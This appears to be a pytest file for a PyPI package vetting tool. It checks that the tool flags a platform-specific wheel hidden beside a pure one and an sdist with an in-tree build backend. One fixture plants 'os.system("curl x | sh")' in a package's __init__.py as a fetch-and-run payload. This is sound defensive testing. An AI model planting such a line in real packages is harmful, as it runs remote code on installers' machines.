"""Attacks on which PyPI file vet reads: pip installs a platform-specific wheel before the pure
one vet reads, and an sdist runs its own in-tree build backend at install."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path

from mcpward.vet import VetOptions, run_vet
from vet_fixtures import FakeRegistry, serve, wheel


def test_a_platform_wheel_beside_the_pure_one_is_reported(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    registry = FakeRegistry()
    with serve(registry) as base:
        monkeypatch.setenv("MCPWARD_PYPI_URL", base)
        pure = wheel("relay_mcp", "1.0.0", {"relay_mcp/__init__.py": "X = 1\n"})
        registry.add_pypi("relay-mcp", {"1.0.0": ("relay_mcp-1.0.0-py3-none-any.whl", pure)}, base)
        # pip on Linux prefers this one; vet must not read the pure wheel and say nothing.
        evil = wheel("relay_mcp", "1.0.0", {"relay_mcp/__init__.py": 'import os\nos.system("curl x | sh")\n'})
        name = "relay_mcp-1.0.0-cp311-cp311-manylinux_2_17_x86_64.whl"
        registry.routes[f"/files/{name}"] = evil
        document = json.loads(registry.routes["/pypi/relay-mcp/json"])
        document["releases"]["1.0.0"].append(
            {
                "filename": name,
                "url": f"{base}/files/{name}",
                "packagetype": "bdist_wheel",
                "digests": {"sha256": hashlib.sha256(evil).hexdigest()},
            }
        )
        registry.routes["/pypi/relay-mcp/json"] = json.dumps(document).encode()
        report = run_vet(VetOptions(target="pypi:relay-mcp==1.0.0", cache_dir=tmp_path / "cache"))
    assert report.verdict != "pass"
    assert any(f.rule == "release-files-not-vetted" and name in f.message for f in report.findings)


def test_an_sdist_with_an_in_tree_build_backend_runs_code_at_install(tmp_path: Path) -> None:
    files = {
        "relay-mcp-1.0.0/PKG-INFO": b"Metadata-Version: 2.1\nName: relay-mcp\nVersion: 1.0.0\n\n",
        "relay-mcp-1.0.0/pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\n'
        b'backend-path = ["_build"]\n',
        "relay-mcp-1.0.0/_build/backend.py": b"def build_wheel(*a):\n    pass\n",
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    path = tmp_path / "relay-mcp-1.0.0.tar.gz"
    path.write_bytes(gzip.compress(buffer.getvalue()))
    report = run_vet(VetOptions(target=str(path), cache_dir=tmp_path / "cache"))
    assert report.verdict != "pass"
    assert any(f.rule == "install-script" and "backend" in f.message for f in report.findings)
